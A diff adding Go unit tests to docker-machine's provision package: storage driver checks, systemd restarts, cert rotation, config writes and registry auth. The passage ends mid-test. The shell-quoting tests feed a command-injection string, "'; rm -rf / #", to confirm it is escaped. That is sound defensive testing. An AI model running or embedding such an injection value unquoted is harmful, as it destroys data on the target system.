@@ -1,17 +1,29 @@
 package provision
 
 import (
+	"bytes"
+	"encoding/base64"
+	"errors"
 	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
 	"regexp"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
+	"time"
 
 	"github.com/docker/machine/drivers/fakedriver"
 	"github.com/docker/machine/libmachine/auth"
+	"github.com/docker/machine/libmachine/cert"
 	"github.com/docker/machine/libmachine/engine"
+	"github.com/docker/machine/libmachine/log"
 	"github.com/docker/machine/libmachine/provision/pkgaction"
 	"github.com/docker/machine/libmachine/provision/provisiontest"
 	"github.com/docker/machine/libmachine/provision/serviceaction"
+	"github.com/docker/machine/libmachine/state"
 	"github.com/docker/machine/libmachine/swarm"
 	"github.com/stretchr/testify/assert"
 )
@@ -181,7 +193,8 @@ func TestDecideStorageDriver(t *testing.T) {
 	}
 
 	p := &fakeProvisioner{GenericProvisioner{
-		Driver: &fakedriver.Driver{},
+		Driver:        &fakedriver.Driver{},
+		EngineOptions: engine.Options{StorageOpts: []string{"dm.thinpooldev=/dev/mapper/docker-thinpool"}},
 	}}
 	for _, test := range tests {
 		p.SSHCommander = provisiontest.NewFakeSSHCommander(
@@ -195,6 +208,23 @@ func TestDecideStorageDriver(t *testing.T) {
 	}
 }
 
+func TestDecideStorageDriverDevicemapperThinPool(t *testing.T) {
+	p := &fakeProvisioner{GenericProvisioner{
+		Driver:        &fakedriver.Driver{},
+		EngineOptions: engine.Options{StorageOpts: []string{"dm.basesize=20G"}},
+	}}
+
+	_, err := decideStorageDriver(p, "aufs", "devicemapper")
+
+	assert.EqualError(t, err, "the devicemapper storage driver requires a thin pool: pass --engine-storage-opt dm.thinpooldev=<device>")
+
+	// the default devicemapper of RedHat hosts is left as it is
+	storageDriver, err := decideStorageDriver(p, "devicemapper", "")
+
+	assert.NoError(t, err)
+	assert.Equal(t, "devicemapper", storageDriver)
+}
+
 func TestGetFilesystemType(t *testing.T) {
 	p := &fakeProvisioner{GenericProvisioner{
 		Driver: &fakedriver.Driver{},
@@ -208,3 +238,1043 @@ func TestGetFilesystemType(t *testing.T) {
 	assert.NoError(t, err)
 	assert.Equal(t, "btrfs", fsType)
 }
+
+func TestEngineFlagName(t *testing.T) {
+	var tests = []struct {
+		flag     string
+		expected string
+	}{
+		{"storage-driver=overlay2", "storage-driver"},
+		{"storage-driver overlay2", "storage-driver"},
+		{"--storage-driver overlay2", "storage-driver"},
+		{"-H=tcp://0.0.0.0:2375", "H"},
+		{"tlsverify", "tlsverify"},
+	}
+
+	for _, test := range tests {
+		assert.Equal(t, test.expected, engineFlagName(test.flag))
+	}
+}
+
+func TestSystemdGenerateDockerOptionsDuplicateStorageDriver(t *testing.T) {
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+	p.EngineOptions = engine.Options{
+		StorageDriver:  "overlay",
+		ArbitraryFlags: []string{"--storage-driver overlay2"},
+	}
+
+	_, err := p.GenerateDockerOptions(engine.DefaultPort)
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "storage-driver")
+}
+
+func TestSystemdGenerateDockerOptionsArbitraryFlags(t *testing.T) {
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+	p.EngineOptions = engine.Options{
+		StorageDriver:  "overlay",
+		ArbitraryFlags: []string{"log-level=debug"},
+	}
+
+	dockerCfg, err := p.GenerateDockerOptions(engine.DefaultPort)
+	assert.NoError(t, err)
+	assert.Contains(t, dockerCfg.EngineOptions, "--log-level=debug")
+}
+
+// recordingSSHCommander records every command it is asked to run, failing
+// the first failures of them and any command containing a key of errs.
+type recordingSSHCommander struct {
+	failures int
+	errs     map[string]error
+	commands []string
+	mu       sync.Mutex
+}
+
+func (sshCmder *recordingSSHCommander) SSHCommand(args string) (string, error) {
+	sshCmder.mu.Lock()
+	defer sshCmder.mu.Unlock()
+
+	sshCmder.commands = append(sshCmder.commands, args)
+	for cmd, err := range sshCmder.errs {
+		if strings.Contains(args, cmd) {
+			return "", err
+		}
+	}
+	if sshCmder.failures > 0 {
+		sshCmder.failures--
+		return "", errors.New("Failed to get D-Bus connection")
+	}
+	return "", nil
+}
+
+func TestSystemdServiceRetriesDaemonReload(t *testing.T) {
+	defer func(backoff time.Duration) { ServiceRetryBackoff = backoff }(ServiceRetryBackoff)
+	ServiceRetryBackoff = time.Millisecond
+
+	sshCmder := &recordingSSHCommander{failures: 2}
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Restart)
+
+	assert.NoError(t, err)
+	assert.Equal(t, []string{
+		"sudo systemctl daemon-reload",
+		"sudo systemctl daemon-reload",
+		"sudo systemctl daemon-reload",
+		"sudo systemctl -f restart docker",
+	}, sshCmder.commands)
+}
+
+func TestSystemdServiceGivesUpAfterRetries(t *testing.T) {
+	defer func(backoff time.Duration) { ServiceRetryBackoff = backoff }(ServiceRetryBackoff)
+	ServiceRetryBackoff = time.Millisecond
+
+	sshCmder := &recordingSSHCommander{failures: ServiceRetryAttempts}
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+	p.SSHCommander = sshCmder
+
+	err := p.Service("docker", serviceaction.Restart)
+
+	assert.Error(t, err)
+	assert.Len(t, sshCmder.commands, ServiceRetryAttempts)
+}
+
+func TestEnsureStorageDriverModule(t *testing.T) {
+	sshCmder := &recordingSSHCommander{}
+
+	assert.NoError(t, ensureStorageDriverModule(sshCmder, "overlay2"))
+	assert.Equal(t, []string{
+		"sudo modprobe overlay",
+		"echo overlay | sudo tee /etc/modules-load.d/overlay.conf",
+	}, sshCmder.commands)
+}
+
+func TestEnsureStorageDriverModuleSkipped(t *testing.T) {
+	sshCmder := &recordingSSHCommander{}
+
+	assert.NoError(t, ensureStorageDriverModule(sshCmder, "devicemapper"))
+	assert.Empty(t, sshCmder.commands)
+}
+
+func TestRedHatProvisionOverlayModuleMissing(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	p.SSHCommander = &recordingSSHCommander{
+		errs: map[string]error{
+			"sudo modprobe overlay": errors.New("modprobe: FATAL: Module overlay not found."),
+		},
+	}
+
+	err := p.Provision(swarm.Options{}, auth.Options{}, engine.Options{StorageDriver: "overlay"})
+
+	assert.Error(t, err)
+	assert.Contains(t, err.Error(), "overlay kernel module")
+}
+
+func TestMakeDockerOptionsDir(t *testing.T) {
+	sshCmder := &recordingSSHCommander{}
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	p.SSHCommander = sshCmder
+
+	assert.NoError(t, makeDockerOptionsDir(p))
+	assert.Equal(t, []string{
+		`sudo mkdir -p -m 755 /etc/docker && if [ "$(stat -c %a /etc/docker)" != "755" ]; then sudo chmod 755 /etc/docker; fi`,
+	}, sshCmder.commands)
+}
+
+func TestProvisionStep(t *testing.T) {
+	var logOutput bytes.Buffer
+	log.SetDebug(true)
+	log.SetErrWriter(&logOutput)
+	defer func() {
+		log.SetDebug(false)
+		log.SetErrWriter(os.Stderr)
+	}()
+
+	assert.NoError(t, provisionStep("hostname", func() error { return nil }))
+	err := provisionStep("certs", func() error { return errors.New("no certs") })
+
+	assert.EqualError(t, err, "no certs")
+	assert.Regexp(t, `(?m)^provision step started: step=hostname\nprovision step finished: step=hostname elapsed=\S+$`, logOutput.String())
+	assert.Regexp(t, `(?m)^provision step started: step=certs\nprovision step failed: step=certs elapsed=\S+ err="no certs"$`, logOutput.String())
+}
+
+func TestProvisionLogsStepTiming(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	var logOutput bytes.Buffer
+	log.SetDebug(true)
+	log.SetErrWriter(&logOutput)
+	defer func() {
+		log.SetDebug(false)
+		log.SetErrWriter(os.Stderr)
+	}()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.SSHCommander = &recordingSSHCommander{}
+	p.SetDryRun(true)
+
+	assert.NoError(t, p.Provision(swarm.Options{}, authOptions, engine.Options{}))
+
+	for _, step := range []string{"hostname", "options-dir", "certs", "swarm"} {
+		assert.Contains(t, logOutput.String(), fmt.Sprintf("provision step started: step=%s\n", step))
+		assert.Regexp(t, fmt.Sprintf(`provision step finished: step=%s elapsed=\S+\n`, step), logOutput.String())
+	}
+}
+
+type hostnameProvisioner struct {
+	fakeProvisioner
+	hostnames []string
+}
+
+func (provisioner *hostnameProvisioner) SetHostname(hostname string) error {
+	provisioner.hostnames = append(provisioner.hostnames, hostname)
+	return nil
+}
+
+func TestSetMachineHostname(t *testing.T) {
+	p := &hostnameProvisioner{fakeProvisioner: fakeProvisioner{GenericProvisioner{
+		Driver: &fakedriver.Driver{MockName: "dev"},
+	}}}
+
+	assert.NoError(t, setMachineHostname(p))
+	assert.Equal(t, []string{"dev"}, p.hostnames)
+
+	p.EngineOptions.SkipHostname = true
+
+	assert.NoError(t, setMachineHostname(p))
+	assert.Equal(t, []string{"dev"}, p.hostnames)
+}
+
+func TestProvisionSkipHostname(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockName: "dev", MockState: state.Running, MockIP: "10.0.0.5"})
+	p.SSHCommander = &recordingSSHCommander{}
+	p.SetDryRun(true)
+
+	assert.NoError(t, p.Provision(swarm.Options{}, authOptions, engine.Options{SkipHostname: true}))
+
+	for _, command := range p.SSHCommander.(*DryRunSSHCommander).Commands {
+		assert.NotContains(t, command, "sudo hostname")
+		assert.NotContains(t, command, "/etc/hostname")
+	}
+}
+
+func TestAppendDriverNameLabel(t *testing.T) {
+	assert.Equal(t, []string{"foo=bar", "provider=virtualbox"}, appendDriverNameLabel([]string{"foo=bar"}, "virtualbox"))
+	assert.Equal(t, []string{"provider=custom"}, appendDriverNameLabel([]string{"provider=custom"}, "virtualbox"))
+}
+
+func TestAppendDefaultLabels(t *testing.T) {
+	d := &fakedriver.Driver{MockName: "dev"}
+
+	assert.Equal(t, []string{"foo=bar", "provider=Driver"}, appendDefaultLabels(engine.Options{Labels: []string{"foo=bar"}}, d))
+	assert.Equal(t, []string{"provider=Driver", "machine=dev"}, appendDefaultLabels(engine.Options{AutoLabels: true}, d))
+	assert.Equal(t, []string{"machine=prod", "provider=Driver"}, appendDefaultLabels(engine.Options{AutoLabels: true, Labels: []string{"machine=prod"}}, d))
+}
+
+func TestValidateDockerPort(t *testing.T) {
+	assert.NoError(t, validateDockerPort(1))
+	assert.NoError(t, validateDockerPort(engine.DefaultPort))
+	assert.NoError(t, validateDockerPort(65535))
+	assert.Error(t, validateDockerPort(0))
+	assert.Error(t, validateDockerPort(-1))
+	assert.Error(t, validateDockerPort(70000))
+}
+
+func TestSystemdGenerateDockerOptionsInvalidPort(t *testing.T) {
+	p := NewSystemdProvisioner("", &fakedriver.Driver{})
+
+	for _, port := range []int{0, 70000} {
+		_, err := p.GenerateDockerOptions(port)
+		assert.EqualError(t, err, fmt.Sprintf("invalid Docker port %d: must be between 1 and 65535", port))
+	}
+}
+
+// newTestAuthOptions generates a CA in a temporary directory and returns auth
+// options pointing at it, along with a func removing the directory.
+func newTestAuthOptions(t *testing.T) (auth.Options, func()) {
+	dir, err := ioutil.TempDir("", "machine-test-auth")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	authOptions := auth.Options{
+		CaCertPath:           filepath.Join(dir, "ca.pem"),
+		CaPrivateKeyPath:     filepath.Join(dir, "ca-key.pem"),
+		ClientCertPath:       filepath.Join(dir, "ca.pem"),
+		ClientKeyPath:        filepath.Join(dir, "ca-key.pem"),
+		ServerCertPath:       filepath.Join(dir, "server.pem"),
+		ServerKeyPath:        filepath.Join(dir, "server-key.pem"),
+		CaCertRemotePath:     "/etc/docker/ca.pem",
+		ServerCertRemotePath: "/etc/docker/server.pem",
+		ServerKeyRemotePath:  "/etc/docker/server-key.pem",
+		StorePath:            filepath.Join(dir, "machine"),
+	}
+
+	if err := os.MkdirAll(authOptions.StorePath, 0700); err != nil {
+		t.Fatal(err)
+	}
+	if err := cert.GenerateCACertificate(authOptions.CaCertPath, authOptions.CaPrivateKeyPath, "test", 1024); err != nil {
+		t.Fatal(err)
+	}
+
+	return authOptions, func() { os.RemoveAll(dir) }
+}
+
+func TestRotateCerts(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.SetDryRun(true)
+
+	err := RotateCerts(p, authOptions)
+
+	assert.NoError(t, err)
+	assert.Equal(t, "/etc/docker/server.pem", p.AuthOptions.ServerCertRemotePath)
+	commands := p.SSHCommander.(*DryRunSSHCommander).Commands
+	assert.Len(t, commands, 5)
+	// the certs are copied concurrently
+	certCommands := strings.Join(commands[:3], "\n") + "\n"
+	for _, remotePath := range []string{"/etc/docker/ca.pem", "/etc/docker/server.pem", "/etc/docker/server-key.pem"} {
+		assert.Contains(t, certCommands, "| sudo tee "+remotePath+"\n")
+	}
+	assert.Equal(t, "sudo systemctl daemon-reload", commands[3])
+	assert.Equal(t, "sudo systemctl -f restart docker", commands[4])
+}
+
+func TestConfigureAuthCopyServerKeyError(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.AuthOptions = authOptions
+	p.SSHCommander = &recordingSSHCommander{
+		errs: map[string]error{
+			"sudo tee /etc/docker/server-key.pem": errors.New("Permission denied"),
+		},
+	}
+
+	err := ConfigureAuth(p)
+
+	assert.EqualError(t, err, "error copying server key to /etc/docker/server-key.pem: Permission denied")
+}
+
+func TestConfigureAuthWriteDockerOptionsError(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.AuthOptions = authOptions
+	p.SSHCommander = &recordingSSHCommander{
+		errs: map[string]error{
+			"sudo tee /etc/systemd/system/docker.service": errors.New("Read-only file system"),
+		},
+	}
+
+	err := ConfigureAuth(p)
+
+	assert.EqualError(t, err, "error writing Docker options to /etc/systemd/system/docker.service: Read-only file system")
+}
+
+// cannedSSHCommander records the commands it runs and answers those found in
+// responses, the others having an empty output.
+type cannedSSHCommander struct {
+	responses map[string]string
+	commands  []string
+	mu        sync.Mutex
+}
+
+func (sshCmder *cannedSSHCommander) SSHCommand(args string) (string, error) {
+	sshCmder.mu.Lock()
+	defer sshCmder.mu.Unlock()
+
+	sshCmder.commands = append(sshCmder.commands, args)
+	return sshCmder.responses[args], nil
+}
+
+func TestConfigureAuthUnchangedConfig(t *testing.T) {
+	authOptions, cleanup := newTestAuthOptions(t)
+	defer cleanup()
+
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.AuthOptions = authOptions
+	// There is no daemon to check the TLS connection with.
+	p.EngineOptions = engine.Options{DisableTLSVerify: true}
+	p.SSHCommander = &cannedSSHCommander{}
+	dockerCfg, err := p.GenerateDockerOptions(engine.DefaultPort)
+	assert.NoError(t, err)
+	caCert, err := ioutil.ReadFile(authOptions.CaCertPath)
+	assert.NoError(t, err)
+
+	sshCmder := &cannedSSHCommander{
+		responses: map[string]string{
+			"sudo cat " + authOptions.CaCertRemotePath:    string(caCert),
+			"sudo cat /etc/systemd/system/docker.service": dockerCfg.EngineOptions,
+		},
+	}
+	p.SSHCommander = sshCmder
+
+	err = ConfigureAuth(p)
+
+	assert.NoError(t, err)
+	for _, command := range sshCmder.commands {
+		assert.NotContains(t, command, "systemctl")
+		assert.NotContains(t, command, "docker0")
+		assert.NotContains(t, command, "sudo tee /etc/systemd/system/docker.service")
+	}
+}
+
+func TestConfigureAuthMachineIPError(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Error})
+	p.SSHCommander = &recordingSSHCommander{}
+
+	err := ConfigureAuth(p)
+
+	assert.EqualError(t, err, "error getting machine IP: Unable to get ip")
+}
+
+func TestSetRemoteAuthOptionsDefaultCertDir(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+
+	authOptions := setRemoteAuthOptions(p)
+
+	assert.Equal(t, "/etc/docker/ca.pem", authOptions.CaCertRemotePath)
+	assert.Equal(t, "/etc/docker/server.pem", authOptions.ServerCertRemotePath)
+	assert.Equal(t, "/etc/docker/server-key.pem", authOptions.ServerKeyRemotePath)
+}
+
+func TestSetRemoteAuthOptionsCustomCertDir(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	p.AuthOptions = auth.Options{RemoteCertDir: "/var/lib/docker-certs"}
+
+	authOptions := setRemoteAuthOptions(p)
+
+	assert.Equal(t, "/var/lib/docker-certs/ca.pem", authOptions.CaCertRemotePath)
+	assert.Equal(t, "/var/lib/docker-certs/server.pem", authOptions.ServerCertRemotePath)
+	assert.Equal(t, "/var/lib/docker-certs/server-key.pem", authOptions.ServerKeyRemotePath)
+}
+
+func TestRestartDockerCommandOrder(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.SetDryRun(true)
+
+	err := RestartDocker(p)
+	assert.NoError(t, err)
+
+	commands := p.SSHCommander.(*DryRunSSHCommander).Commands
+	assert.Len(t, commands, 6)
+	assert.Equal(t, "docker --version", commands[0])
+	assert.Contains(t, commands[1], "sudo tee /etc/systemd/system/docker.service")
+	assert.Equal(t, `if sudo test -f /etc/systemd/system/docker.service.d/10-machine.conf; then sudo rm -f /etc/systemd/system/docker.service.d/10-machine.conf && echo removed; fi`, commands[2])
+	assert.Equal(t, `if sudo grep -qsF -- '"hosts"' /etc/docker/daemon.json; then sudo rm -f /etc/docker/daemon.json && echo removed; fi`, commands[3])
+	assert.Equal(t, "sudo systemctl daemon-reload", commands[4])
+	assert.Equal(t, "sudo systemctl -f restart docker", commands[5])
+}
+
+// netstatSSHCommander records the commands it runs and answers netstat with
+// its listening sockets.
+type netstatSSHCommander struct {
+	recordingSSHCommander
+	listening string
+}
+
+func (sshCmder *netstatSSHCommander) SSHCommand(args string) (string, error) {
+	sshCmder.recordingSSHCommander.SSHCommand(args)
+	if args == "netstat -tln" {
+		return sshCmder.listening, nil
+	}
+	return "", nil
+}
+
+func TestStartDocker(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	sshCmder := &netstatSSHCommander{listening: "tcp6       0      0 :::2376                 :::*                    LISTEN\n"}
+	p.SSHCommander = sshCmder
+
+	err := StartDocker(p)
+
+	assert.NoError(t, err)
+	assert.Equal(t, []string{
+		"sudo systemctl daemon-reload",
+		"sudo systemctl -f start docker",
+		"netstat -tln",
+	}, sshCmder.commands)
+}
+
+func TestStopDocker(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	sshCmder := &netstatSSHCommander{}
+	p.SSHCommander = sshCmder
+
+	err := StopDocker(p)
+
+	assert.NoError(t, err)
+	assert.Equal(t, []string{
+		"sudo systemctl -f stop docker",
+		"netstat -tln",
+	}, sshCmder.commands)
+}
+
+func TestStopDockerSocketActivated(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	p.SocketActivation = true
+	sshCmder := &netstatSSHCommander{listening: "tcp6       0      0 :::2376                 :::*                    LISTEN\n"}
+	p.SSHCommander = sshCmder
+
+	err := StopDocker(p)
+
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"sudo systemctl -f stop docker"}, sshCmder.commands)
+}
+
+func TestRestartDockerUnchangedOptions(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Running, MockIP: "10.0.0.5"})
+	dockerCfg, err := p.GenerateDockerOptions(engine.DefaultPort)
+	assert.NoError(t, err)
+
+	// any command but reading the current unit fails, so writing it or
+	// restarting the daemon would make RestartDocker fail
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{
+			"sudo cat /etc/systemd/system/docker.service": dockerCfg.EngineOptions,
+			`if sudo test -f /etc/systemd/system/docker.service.d/10-machine.conf; then sudo rm -f /etc/systemd/system/docker.service.d/10-machine.conf && echo removed; fi`: "",
+			`if sudo grep -qsF -- '"hosts"' /etc/docker/daemon.json; then sudo rm -f /etc/docker/daemon.json && echo removed; fi`:                                            "",
+		},
+	}
+
+	err = RestartDocker(p)
+
+	assert.NoError(t, err)
+}
+
+func TestWriteDockerOptionsChanged(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	sshCmder := &recordingSSHCommander{}
+	p.SSHCommander = sshCmder
+
+	changed, err := writeDockerOptions(p, engine.DefaultPort)
+
+	assert.NoError(t, err)
+	assert.True(t, changed)
+	assert.Equal(t, "sudo cat /etc/systemd/system/docker.service", sshCmder.commands[1])
+	assert.Contains(t, sshCmder.commands[2], "| sudo tee /etc/systemd/system/docker.service.tmp && sudo mv /etc/systemd/system/docker.service.tmp /etc/systemd/system/docker.service && ")
+}
+
+func TestEnsureDockerConfig(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	sshCmder := &recordingSSHCommander{}
+	p.SSHCommander = sshCmder
+	opts := DockerOptions{
+		EngineOptions:     "[Service]\n",
+		EngineOptionsPath: "/etc/systemd/system/docker.service",
+	}
+
+	changed, err := p.EnsureDockerConfig(opts)
+
+	assert.NoError(t, err)
+	assert.True(t, changed)
+	assert.Len(t, sshCmder.commands, 2)
+	assert.Contains(t, sshCmder.commands[1], "| sudo tee /etc/systemd/system/docker.service.tmp && sudo mv /etc/systemd/system/docker.service.tmp /etc/systemd/system/docker.service && ")
+}
+
+func TestShellQuote(t *testing.T) {
+	cases := []struct {
+		s      string
+		quoted string
+	}{
+		{"", `''`},
+		{"hunter2", `'hunter2'`},
+		{`$HOME "x" \n`, `'$HOME "x" \n'`},
+		{"it's", `'it'\''s'`},
+		{"'; rm -rf / #", `''\''; rm -rf / #'`},
+	}
+
+	for _, c := range cases {
+		assert.Equal(t, c.quoted, shellQuote(c.s))
+	}
+}
+
+func TestWriteRemoteFileCommand(t *testing.T) {
+	cmd := writeRemoteFileCommand(`printf %s "[Service]\n"`, "/etc/systemd/system/docker.service")
+
+	assert.Equal(t, `sudo mkdir -p /etc/systemd/system && printf %s "[Service]\n" | sudo tee /etc/systemd/system/docker.service.tmp && `+
+		`sudo mv /etc/systemd/system/docker.service.tmp /etc/systemd/system/docker.service && `+
+		`if command -v restorecon >/dev/null 2>&1; then sudo restorecon /etc/systemd/system/docker.service; fi`, cmd)
+}
+
+func TestEnsureDockerConfigQuotesContent(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	sshCmder := &recordingSSHCommander{}
+	p.SSHCommander = sshCmder
+	opts := DockerOptions{
+		EngineOptions:     "[Service]\nEnvironment=\"GREETING=it's $HOME\"\n",
+		EngineOptionsPath: "/etc/systemd/system/docker.service",
+		DaemonJSON:        `{"labels":["owner=o'brien"]}`,
+		DaemonJSONPath:    "/etc/docker/daemon.json",
+		EnvFile:           "GREETING='; rm -rf / #\n",
+		EnvFilePath:       "/etc/sysconfig/docker-machine",
+	}
+
+	_, err := p.EnsureDockerConfig(opts)
+
+	assert.NoError(t, err)
+	commands := strings.Join(sshCmder.commands, "\n")
+	assert.Contains(t, commands, `printf '%s' '[Service]
+Environment="GREETING=it'\''s $HOME"
+' | sudo tee /etc/systemd/system/docker.service.tmp`)
+	assert.Contains(t, commands, `printf '%s' '{"labels":["owner=o'\''brien"]}' | sudo tee /etc/docker/daemon.json.tmp`)
+	assert.Contains(t, commands, `printf '%s' 'GREETING='\''; rm -rf / #
+' | sudo tee /etc/sysconfig/docker-machine.tmp`)
+}
+
+func TestEnsureDockerConfigUnchanged(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{})
+	opts := DockerOptions{
+		EngineOptions:     "[Service]\n",
+		EngineOptionsPath: "/etc/systemd/system/docker.service",
+	}
+	// writing the unit is not a registered command and would fail
+	p.SSHCommander = &provisiontest.FakeSSHCommander{
+		Responses: map[string]string{
+			"sudo cat /etc/systemd/system/docker.service": opts.EngineOptions,
+		},
+	}
+
+	changed, err := p.EnsureDockerConfig(opts)
+
+	assert.NoError(t, err)
+	assert.False(t, changed)
+}
+
+func TestRestartDockerURLError(t *testing.T) {
+	p := NewRedHatProvisioner("rhel", &fakedriver.Driver{MockState: state.Error})
+	p.SetDryRun(true)
+
+	err := RestartDocker(p)
+
+	assert.EqualError(t, err, "error getting the Docker URL: Unable to get ip")
+	assert.Empty(t, p.SSHCommander.(*DryRunSSHCommander).Commands)
+}
+
+func TestCopyFilesToRemoteConcurrently(t *testing.T) {
+	defer func(transfer func(SSHCommander, []byte, string) error) { transferFile = transfer }(transferFile)
+
+	var started sync.WaitGroup
+	started.Add(3)
+	allStarted := make(chan struct{})
+	go func() {
+		started.Wait()
+		close(allStarted)
+	}()
+
+	transferFile = func(p SSHCommander, content []byte, remotePath string) error {
+		started.Done()
+		select {
+		case <-allStarted:
+		case <-time.After(5 * time.Second):
+			return errors.New("transfers did not run concurrently")
+		}
+		if remotePath != "/etc/docker/ca.pem" {
+			return errors.New("Permission denied")
+		}
+		return nil
+	}
+
+	err := copyFilesToRemote(&recordingSSHCommander{}, []remoteFile{
+		{"CA cert", []byte("ca"), "/etc/docker/ca.pem"},
+		{"server cert", []byte("cert"), "/etc/docker/server.pem"},
+		{"server key", []byte("key"), "/etc/docker/server-key.pem"},
+	})
+
+	assert.EqualError(t, err, "error copying server cert to /etc/docker/server.pem: Permission denied; error copying server key to /etc/docker/server-key.pem: Permission denied")
+}
+
+func TestGenerateRegistryAuthConfig(t *testing.T) {
+	config, err := generateRegistryAuthConfig(nil, map[string]string{
+		"https://mirror.example.com": "user:s3cret",
+	})
+
+	assert.NoError(t, err)
+	assert.Equal(t, `{
+	"auths": {
+		"https://mirror.example.com": {
+			"auth": "dXNlcjpzM2NyZXQ="
+		}
+	}
+}`, string(config))
+}
+
+func TestGenerateRegistryAuthConfigInvalidCredentials(t *testing.T) {
+	_, err := generateRegistryAuthConfig(nil, map[string]string{
+		"https://mirror.example.com": "token",
+	})
+
+	assert.EqualError(t, err, "invalid credentials for registry mirror https://mirror.example.com: expected user:password")
+}
+
+func TestWriteRegistryMirrorAuth(t *testing.T) {
+	sshCmder := &recordingSSHCommander{}
+
+	assert.NoError(t, writeRegistryMirrorAuth(sshCmder, nil))
+	assert.Empty(t, sshCmder.commands)
+
+	assert.NoError(t, writeRegistryMirrorAuth(sshCmder, map[string]string{"https://mirror.example.com": "user:s3cret"}))
+	assert.Len(t, sshCmder.commands, 2)
+	assert.Equal(t, "if [ -f ~/.docker/config.json ]; then cat ~/.docker/config.json; fi", sshCmder.commands[0])
+	assert.Contains(t, sshCmder.commands[1], `"auth": "dXNlcjpzM2NyZXQ="`)
+	assert.Contains(t, sshCmder.commands[1], "(umask 077 && mkdir -p ~/.docker && printf '%s' '")
+	assert.Contains(t, sshCmder.commands[1], "' > ~/.docker/config.json) && chmod 600 ~/.docker/config.json")
+}
+
+func TestGenerateRegistryAuthConfigMergesExistingConfig(t *testing.T) {
+	config, err := generateRegistryAuthConfig([]byte(`{
+	"auths": {
+		"https://index.docker.io/v1/": {"auth": "aHViOnB3"},
+		"https://mirror.example.com": {"auth": "b2xkOnB3", "email": "dev@example.com"}
+	},
+	"detachKeys": "ctrl-x"
+}`), map[string]string{
+		"https://mirror.example.com": "user:s3cret",
+	})
+
+	assert.NoError(t, err)
+	assert.Equal(t, `{
+	"auths": {
+		"https://index.docker.io/v1/": {
+			"auth": "aHViOnB3"
+		},
+		"https://mirror.example.com": {
+			"auth": "dXNlcjpzM2NyZXQ=",
+			"email": "dev@example.com"
+		}
+	},
+	"detachKeys": "ctrl-x"
+}`, string(config))
+
+	_, err = generateRegistryAuthConfig([]byte("not json"), map[string]string{"https://mirror.example.com": "user:s3cret"})
+	assert.Error(t, err)
+}
+
+func TestWriteRegistryMirrorAuthQuotesAndRedacts(t *testing.T) {
+	sshCmder := &sequenceSSHCommander{outputs: []string{`{"auths": {"https://index.docker.io/v1/": {"auth": "aHViOnB3"}}}`}}
+
+	err := writeRegistryMirrorAuth(sshCmder, map[string]string{"https://mirror.example.com/it's": "user:it's-s3cret"})
+
+	assert.NoError(t, err)
+	assert.Len(t, sshCmder.commands, 2)
+	assert.Contains(t, sshCmder.commands[1], `"https://mirror.example.com/it'\''s"`)
+	assert.Contains(t, sshCmder.commands[1], `"auth": "aHViOnB3"`)
+
+	log.Debugf("About to run SSH command:\n%s", sshCmder.commands[1])
+	redacted := strings.Join(log.History(), "\n")
+	assert.NotContains(t, redacted, base64.StdEncoding.EncodeToString([]byte("user:it's-s3cret")))
+	assert.NotContains(t, redacted, "aHViOnB3")
+}
+
+// blockingSSHCommander never completes a command until release is closed.
+type blockingSSHCommander struct {
+	release chan struct{}
+	calls   int32
+}
+
+func (sshCmder *blockingSSHCommander) SSHCommand(args string) (string, error) {
+	atomic.AddInt32(&sshCmder.calls, 1)
+	<-sshCmder.release
+	return "", nil
+}
+
+func TestSSHCommandWithTimeout(t *testing.T) {
+	sshCmder := &blockingSSHCommander{release: make(chan struct{})}
+	defer close(sshCmder.release)
+
